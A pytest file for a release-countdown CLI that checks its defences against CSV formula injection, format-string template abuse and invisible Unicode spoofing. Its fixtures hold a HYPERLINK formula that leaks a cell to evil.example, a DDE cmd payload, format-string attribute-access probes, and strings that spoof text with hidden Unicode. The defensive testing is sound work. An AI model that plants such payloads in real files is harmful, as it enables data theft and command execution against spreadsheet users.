"""Hostile registry text in people's formats: CSV formulas, template specs, invisible characters.

Spreadsheets run a cell that starts with = + - @ (or a tab or CR before one); OWASP's advice is
a leading ' on such cells, which `list`/`export --format csv` apply unless --raw. Templates take
no nested fields in format specs and no huge widths. The terminal never gets line separators,
zero-width or tag characters raw.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from release_countdown.views.safe import terminal_safe
from tests.conftest import invoke

AS_OF = "2026-01-01"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CMD = "+cmd|' /C calc'!A0"
# Every prefix OWASP names, in each kind of registry text that reaches a CSV cell.
FORMULAS = (
    '[[release]]\nid = "formula"\n'
    'title = "=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"click\\")"\n'
    "date = 2026-03-01\n"
    'aliases = ["+cmd|\' /C calc\'!A0", "harmless"]\n'
    'franchise = "-2+3"\n'
    'note = "@SUM(1+1)"\n'
    "[release.people]\n"
    'director = ["\\t=1+1"]\n'
    'composer = ["\\r=1+1", "Plain Name"]\n'
    'writer = ["-2+3"]\n'
    "\n"
    '[[release]]\nid = "gone"\ntitle = "Gone Girl Two"\ndate = 2025-12-10\n'
    "\n"
    '[[release]]\nid = "window"\ntitle = "Windowed"\ndate = "2025-12"\n'
)


def write(tmp_path: Path, text: str) -> str:
    path = tmp_path / "hostile.toml"
    path.write_text(text, encoding="utf-8")
    return str(path)


def csv_rows(data: bytes) -> dict[str, dict[str, str]]:
    """The CSV's rows by id."""
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    return {row["id"]: row for row in reader}


CSV_COMMANDS = [
    pytest.param(("list", "--all", "--format", "csv"), id="list"),
    pytest.param(("export", "--all", "--format", "csv"), id="export"),
]


# --- CSV: formulas neutralised for people, verbatim for pipelines ----------------------------


@pytest.mark.parametrize("command", CSV_COMMANDS)
def test_csv_cells_a_spreadsheet_would_run_get_a_quote(
    tmp_path: Path, command: tuple[str, ...]
) -> None:
    result = invoke(*command, "-r", write(tmp_path, FORMULAS), "--as-of", AS_OF)
    assert result.exit_code == 0, result.stderr
    rows = csv_rows(result.stdout_bytes)
    formula = rows["formula"]
    assert formula["title"] == "'" + HYPERLINK
    assert formula["aliases"] == f"'{CMD}; harmless"
    assert formula["franchise"] == "'-2+3"
    assert formula["note"] == "'@SUM(1+1)"
    assert formula["people.director"] == "'\t=1+1"
    assert formula["people.composer"] == "'\r=1+1; Plain Name"
    assert formula["people.writer"] == "'-2+3"
    # Nothing a person would open starts a formula any more.
    for row in rows.values():
        for name, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
            if value.startswith("-"):
                assert name.startswith("days_remaining"), (name, value)


@pytest.mark.parametrize("command", CSV_COMMANDS)
def test_csv_numbers_the_program_computes_stay_numbers(
    tmp_path: Path, command: tuple[str, ...]
) -> None:
    result = invoke(*command, "-r", write(tmp_path, FORMULAS), "--as-of", AS_OF)
    assert result.exit_code == 0, result.stderr
    rows = csv_rows(result.stdout_bytes)
    assert (rows["gone"]["days_remaining"], rows["gone"]["days_remaining_max"]) == ("-22", "-22")
    assert (rows["window"]["days_remaining"], rows["window"]["days_remaining_max"]) == ("-31", "-1")
    assert rows["formula"]["days_remaining"] == "59"
    # The test would prove nothing if the hostile row came out untouched.
    assert rows["formula"]["title"].startswith("'=")


@pytest.mark.parametrize("command", CSV_COMMANDS)
def test_csv_raw_writes_cells_verbatim(tmp_path: Path, command: tuple[str, ...]) -> None:
    result = invoke(*command, "--raw", "-r", write(tmp_path, FORMULAS), "--as-of", AS_OF)
    assert result.exit_code == 0, result.stderr
    rows = csv_rows(result.stdout_bytes)
    formula = rows["formula"]
    assert formula["title"] == HYPERLINK
    assert formula["aliases"] == f"{CMD}; harmless"
    assert formula["franchise"] == "-2+3"
    assert formula["note"] == "@SUM(1+1)"
    assert formula["people.director"] == "\t=1+1"
    assert formula["people.composer"] == "\r=1+1; Plain Name"
    assert rows["gone"]["days_remaining"] == "-22"


def test_csv_raw_is_the_csv_of_before(tmp_path: Path) -> None:
    """Registries with no formula-like text give the same bytes with or without --raw."""
    path = write(tmp_path, FORMULAS.split("\n\n", 1)[1])
    default = invoke("list", "--all", "--format", "csv", "-r", path, "--as-of", AS_OF)
    raw = invoke("list", "--all", "--format", "csv", "--raw", "-r", path, "--as-of", AS_OF)
    assert default.exit_code == raw.exit_code == 0, default.stderr + raw.stderr
    assert default.stdout_bytes == raw.stdout_bytes
    assert b",-22,-22," in default.stdout_bytes


@pytest.mark.parametrize(
    "command",
    [
        pytest.param(("list", "--all", "--json"), id="list"),
        pytest.param(("export", "--all", "--format", "json"), id="export"),
    ],
)
def test_json_keeps_text_verbatim_with_or_without_raw(
    tmp_path: Path, command: tuple[str, ...]
) -> None:
    path = write(tmp_path, FORMULAS)
    default = invoke(*command, "-r", path, "--as-of", AS_OF)
    raw = invoke(*command, "--raw", "-r", path, "--as-of", AS_OF)
    assert default.exit_code == raw.exit_code == 0, default.stderr + raw.stderr
    assert default.stdout == raw.stdout
    text = default.stdout
    rows = (
        json.loads(text)
        if text.startswith("[")
        else [json.loads(line) for line in text.splitlines()]
    )
    formula = next(row for row in rows if row["id"] == "formula")
    assert formula["title"] == HYPERLINK
    assert formula["aliases"] == [CMD, "harmless"]
    assert formula["people"]["director"] == ["\t=1+1"]


# --- templates: no nested fields in specs, no attribute access, bounded widths ----------------

TEMPLATE_ATTACKS = [
    pytest.param("{title:>{__class__}}", "nested", id="nested-unknown"),
    pytest.param("{title:{title.__class__.__mro__}}", "nested", id="nested-attribute"),
    pytest.param("{title:>{days}}", "nested", id="nested-known-field"),
    pytest.param("{title:{}}", "nested", id="nested-empty"),
    pytest.param("{title.__class__}", "attribute or index", id="attribute"),
    pytest.param("{title[0]}", "attribute or index", id="index"),
    pytest.param("{days:>100000000}", "1000", id="width"),
    pytest.param("{title:.5000}", "1000", id="precision"),
    pytest.param("{title:x<01001}", "1000", id="zero-padded-width"),
    pytest.param("{days:,>1001,d}", "1000", id="fill-and-grouping"),
]


@pytest.mark.parametrize(("template", "why"), TEMPLATE_ATTACKS)
@pytest.mark.parametrize("command", ["list", "next"])
def test_template_attacks_are_refused_as_bad_options(
    tmp_path: Path, command: str, template: str, why: str
) -> None:
    result = invoke(
        command, "--format", template, "-r", write(tmp_path, FORMULAS), "--as-of", AS_OF
    )
    assert result.exit_code == 2, result.stderr + result.stdout[:200]
    assert "Invalid value for '--format'" in result.stderr
    assert why in result.stderr
    assert "Traceback" not in result.stderr
    assert result.stdout == ""


def test_template_is_checked_before_any_row_is_made(tmp_path: Path) -> None:
    """A huge width is refused even when the view is empty and nothing would be rendered."""
    path = write(tmp_path, '[[release]]\nid = "old"\ntitle = "Old"\ndate = 2000-01-01\n')
    result = invoke("list", "--format", "{days:>100000000}", "-r", path, "--as-of", AS_OF)
    assert result.exit_code == 2, result.stderr
    assert "Invalid value for '--format'" in result.stderr


@pytest.mark.parametrize(
    ("template", "line"),
    [
        ("{days:>5} {title}", "   59 ="),
        ("{days:05d}|{id:.4}", "00059|form"),
        ("{id:*^1000}", "*" * 496 + "formula" + "*" * 497),
        ("{days:+} {days_max:<3}|", "+59 59 |"),
        ("{title!r:.3}", "'=H"),
    ],
)
def test_ordinary_templates_still_work(tmp_path: Path, template: str, line: str) -> None:
    result = invoke("next", "--format", template, "-r", write(tmp_path, FORMULAS), "--as-of", AS_OF)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith(line), result.stdout


# --- the terminal: line separators, zero-width and tag characters made visible ----------------

INVISIBLE = [
    pytest.param("\u2028", id="line-separator"),
    pytest.param("\u2029", id="paragraph-separator"),
    pytest.param("\u200b", id="zero-width-space"),
    pytest.param("\u200c", id="zero-width-non-joiner"),
    pytest.param("\u200d", id="zero-width-joiner"),
    pytest.param("\u2060", id="word-joiner"),
    pytest.param("\ufeff", id="bom-zero-width-no-break-space"),
    pytest.param("\U000e0000", id="tag-first"),
    pytest.param("\U000e0001", id="language-tag"),
    pytest.param("\U000e0041", id="tag-latin-a"),
    pytest.param("\U000e007f", id="cancel-tag"),
]
HIDDEN = "\u2028\u2029\u200b\u200c\u200d\u2060\ufeff" + "".join(
    chr(c) for c in range(0xE0000, 0xE0080)
)


@pytest.mark.parametrize("char", INVISIBLE)
@pytest.mark.parametrize("where", ["start", "inside", "end"])
def test_terminal_safe_makes_invisible_characters_visible(char: str, where: str) -> None:
    text = {"start": f"{char}abc", "inside": f"ab{char}c", "end": f"abc{char}"}[where]
    shown = terminal_safe(text)
    assert char not in shown
    assert shown == text.replace(char, "\ufffd")


def test_terminal_safe_keeps_the_old_stand_ins_and_ordinary_text() -> None:
    assert terminal_safe("a\x1b[2Jb\nc\x7f") == "a\u241b[2Jb\u240ac\u2421"
    assert terminal_safe("\u202etxt.exe") == "\ufffdtxt.exe"
    text = "Amélie · 坂本龍一 🎹 e\u0301te\u0301 – “quoted” 🏳 x"
    assert terminal_safe(text) == text


SPOOF = (
    '[[release]]\nid = "spoof"\n'
    'title = "Real\\u2028Fake\\u200bTitle\\U000E0041\\U000E0042 \\uFEFFEnd"\n'
    "date = 2026-03-01\n"
    'aliases = ["\\u2029alias"]\n'
    "[release.people]\n"
    'director = ["Hidden\\u2060Name\\u200d"]\n'
    'composer = ["\\u200cComposer"]\n'
)


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(("list",), id="list-table"),
        pytest.param(
            ("list", "--format", "{title}|{director}|{composer}|{aliases}"), id="list-template"
        ),
        pytest.param(("next",), id="next"),
        pytest.param(("show", "spoof"), id="show"),
        pytest.param(("people",), id="people"),
    ],
)
def test_invisible_registry_text_never_reaches_the_terminal(
    tmp_path: Path, args: tuple[str, ...]
) -> None:
    result = invoke(*args, "-r", write(tmp_path, SPOOF), "--as-of", AS_OF)
    assert result.exit_code == 0, result.stderr
    found = [f"U+{ord(c):04X}" for c in result.stdout + result.stderr if c in HIDDEN]
    assert not found, found
    if args[0] != "people":
        assert "Real\ufffdFake\ufffdTitle" in result.stdout


def test_invisible_text_in_messages_is_made_visible(tmp_path: Path) -> None:
    result = invoke("show", "Real\u2028Fak", "-r", write(tmp_path, SPOOF), "--as-of", AS_OF)
    found = [f"U+{ord(c):04X}" for c in result.stdout + result.stderr if c in HIDDEN]
    assert not found, found


def test_csv_and_json_keep_invisible_characters_verbatim(tmp_path: Path) -> None:
    path = write(tmp_path, SPOOF)
    title = "Real\u2028Fake\u200bTitle\U000e0041\U000e0042 \ufeffEnd"
    listed = invoke("list", "--format", "csv", "-r", path, "--as-of", AS_OF)
    assert csv_rows(listed.stdout_bytes)["spoof"]["title"] == title
    as_json = invoke("list", "--json", "-r", path, "--as-of", AS_OF)
    assert json.loads(as_json.stdout)[0]["title"] == title
